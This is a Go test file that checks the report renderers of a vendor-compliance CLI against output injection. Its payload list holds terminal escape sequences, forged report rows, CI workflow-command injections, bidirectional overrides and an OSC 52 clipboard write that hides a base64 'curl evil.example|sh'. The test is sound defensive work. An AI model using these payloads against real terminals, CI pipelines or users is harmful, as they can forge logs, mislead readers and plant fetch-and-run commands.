package cli

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"reflect"
	"strings"
	"testing"
	"unicode"

	"github.com/vendorcheck/vendorcheck/pkg/report"
)

// injectionPayloads are texts an attacker can put in any field of an input
// (or in a file name): terminal escape sequences, line forgers, CI
// workflow commands, bidirectional overrides, @mentions and the URLs and
// e-mail addresses that GitHub and GitLab turn into links.
var injectionPayloads = []string{
	"\x1b[2J\x1b[Hcleared", // clear the screen
	"\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", // OSC 8 hyperlink
	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",             // OSC 52 clipboard write
	"\x1b]0;pwned\x07",         // window title
	"\x9b31mred",               // C1 CSI (one rune)
	"ok\rDENY  huawei  forged", // carriage return overwrites the row
	"nul\x00byte",
	"x\nDENY  huawei  FORGED ROW",
	"x\n::add-mask::ZTE",
	"x\n::error file=a,line=1::forged",
	"x\r\n::warning::forged",
	"::add-mask::ZTE", // a whole field that would start a line
	"x\u2028::add-mask::ZTE",
	"x\u0085::add-mask::ZTE", // NEL
	"abc\u202eZTE\u202c",     // right-to-left override
	"\u2066isolate\u2069",
	"ping @octocat and @github/security",
	"see https://evil.example/x, WWW.evil.example and ops@evil.example", // autolinks
	"bad\xffutf8\x1b",
}

// forbiddenRunes must never appear raw in any output.
var forbiddenRunes = []rune{0x1b, 0x00, 0x07, '\r', 0x9b, 0x85, 0x2028, 0x202e, 0x202c, 0x2066, 0x2069}

// lineStarts are texts from the payloads that must never begin a line
// (after leading white space, which the GitHub runner trims too).
var lineStarts = []string{"::", "DENY  huawei  FORGED", "DENY  huawei  forged"}

// TestInjection puts each payload into every text field of a rich result
// (component names, versions, references, file names, evidence, list and
// rule texts, error messages, waivers, groups, parameters ...) and renders
// it with every format of the registry (Formats): no output line may hold a raw control character,
// escape sequence or bidirectional override, or begin with text from the
// input; Markdown formats must not carry a live @mention or autolink. Binary formats
// (zip containers such as XLSX) are checked part by part.
func TestInjection(t *testing.T) {
	base := injectionBase(t)
	for _, r := range Formats().Reporters() {
		t.Run(r.ID(), func(t *testing.T) {
			for _, p := range injectionPayloads {
				for _, mode := range []string{"append", "replace"} {
					res := poisoned(t, base, p, mode == "replace")
					for _, verbose := range []bool{false, true} {
						var buf bytes.Buffer
						if err := r.Render(&buf, res, report.Options{Verbose: verbose}); err != nil {
							t.Fatalf("payload %q (%s): %v", p, mode, err)
						}
						for name, text := range outputTexts(t, buf.Bytes()) {
							checkOutput(t, r, p+" ("+mode+") "+name, text)
						}
					}
				}
			}
		})
	}
}

func checkOutput(t *testing.T, r report.Reporter, what, text string) {
	t.Helper()
	markdown := strings.Contains(strings.ToLower(r.ID()+" "+r.Description()), "markdown")
	for i, line := range strings.Split(text, "\n") {
		for _, c := range forbiddenRunes {
			if strings.ContainsRune(line, c) {
				t.Errorf("payload %s: line %d holds raw %U: %q", what, i+1, c, clipLine(line))
				return
			}
		}
		trimmed := strings.TrimLeftFunc(line, unicode.IsSpace)
		for _, s := range lineStarts {
			if strings.HasPrefix(trimmed, s) {
				t.Errorf("payload %s: line %d begins with input text %q: %q", what, i+1, s, clipLine(line))
				return
			}
		}
		if markdown && (strings.Contains(line, "@octocat") || strings.Contains(line, "@github/")) {
			t.Errorf("payload %s: line %d holds a live @mention: %q", what, i+1, clipLine(line))
			return
		}
		if markdown {
			for _, link := range []string{"://evil.example", "WWW.evil.example", "@evil.example"} {
				if strings.Contains(line, link) {
					t.Errorf("payload %s: line %d holds a live autolink %q: %q", what, i+1, link, clipLine(line))
					return
				}
			}
		}
	}
}

func clipLine(s string) string {
	if len(s) > 200 {
		return s[:200] + "..."
	}
	return s
}

// outputTexts returns the text of an output: itself, or each part of a zip
// container.
func outputTexts(t *testing.T, out []byte) map[string]string {
	t.Helper()
	if !bytes.HasPrefix(out, []byte("PK\x03\x04")) {
		return map[string]string{"": string(out)}
	}
	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
	if err != nil {
		t.Fatal(err)
	}
	texts := map[string]string{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		texts[f.Name] = string(b)
	}
	return texts
}

// poisoned returns a deep copy of res with payload appended to (or
// replacing) every string reachable from it, except the verdict fields a
// renderer switches on (actions, confidence), which keep a valid value so
// that every code path runs.
func poisoned(t *testing.T, res *report.Result, payload string, replace bool) *report.Result {
	t.Helper()
	// A deep copy through JSON keeps the shared result untouched.
	c, err := resultCopy(res)
	if err != nil {
		t.Fatal(err)
	}
	poison(reflect.ValueOf(c).Elem(), payload, replace)
	return c
}

func poison(v reflect.Value, p string, replace bool) {
	switch v.Kind() {
	case reflect.String:
		if !v.CanSet() {
			return
		}
		// Typed strings (actions, relations, statuses) steer rendering;
		// they are poisoned by appending only, so a renderer still sees
		// their usual prefix.
		if replace && v.Type() == reflect.TypeOf("") {
			v.SetString(p)
		} else {
			v.SetString(v.String() + p)
		}
	case reflect.Ptr, reflect.Interface:
		if !v.IsNil() {
			poison(v.Elem(), p, replace)
		}
	case reflect.Struct:
		for i := 0; i < v.NumField(); i++ {
			if v.Type().Field(i).IsExported() {
				poison(v.Field(i), p, replace)
			}
		}
	case reflect.Slice, reflect.Array:
		for i := 0; i < v.Len(); i++ {
			poison(v.Index(i), p, replace)
		}
	}
}

// injectionBase is the result of checking the example SBOM, with every
// part a format may show filled in: an input error, a waived and a
// baseline finding, waiver statuses, groups with hosts and sites, and
// deadlines.
func injectionBase(t *testing.T) *report.Result {
	t.Helper()
	var stdout, stderr bytes.Buffer
	code := Run(context.Background(), []string{"scan", "--as-of", "2026-11-27", "-o", "json", "../../testdata/examples/restricted-mix.cdx.json"},
		strings.NewReader(""), &stdout, &stderr)
	if code != ExitFindings {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	res, err := report.ReadResult(&stdout)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Findings) < 2 || len(res.Unassessed) == 0 {
		t.Fatalf("the example gave %d findings and %d unassessed: it changed", len(res.Findings), len(res.Unassessed))
	}
	res.Errors = append(res.Errors, report.Error{File: "broken.json", Line: 2, Message: "broken.json:2: unexpected end of input"})
	res.Inputs = append(res.Inputs, report.Input{File: "broken.json", Error: "broken.json:2: unexpected end of input",
		Hosts: []report.HostCount{{Key: "host1", Kind: "host", Site: "site1", Components: 1}}})
	res.Summary.FilesFailed++
	ref := report.WaiverRef{ID: "w1", Reason: "replacement ordered", Expires: "2027-01-31", ApprovedBy: "ciso", Source: "waivers.yaml:3"}
	res.Findings[0].Waived, res.Findings[0].Waiver = true, &ref
	res.Findings[1].Baseline = true
	res.Waivers = []report.WaiverStatus{{WaiverRef: ref, Status: report.WaiverActive, Matched: 1}}
	for i := range res.Findings {
		res.Findings[i].Own()
		res.Findings[i].Component.Host, res.Findings[i].Component.Site = "host1", "site1"
		if res.Findings[i].Deadline == "" {
			res.Findings[i].Deadline = "2027-06-30"
		}
	}
	report.ComputeGroups(res)
	report.ComputeDeadlines(res, nil)
	if len(res.Groups) == 0 || len(res.Deadlines) == 0 {
		t.Fatalf("no groups (%d) or deadlines (%d)", len(res.Groups), len(res.Deadlines))
	}
	return res
}

// resultCopy is a deep copy of res, through JSON.
func resultCopy(res *report.Result) (*report.Result, error) {
	var buf bytes.Buffer
	if err := (report.JSON{}).Render(&buf, res, report.Options{}); err != nil {
		return nil, err
	}
	return report.ReadResult(&buf)
}
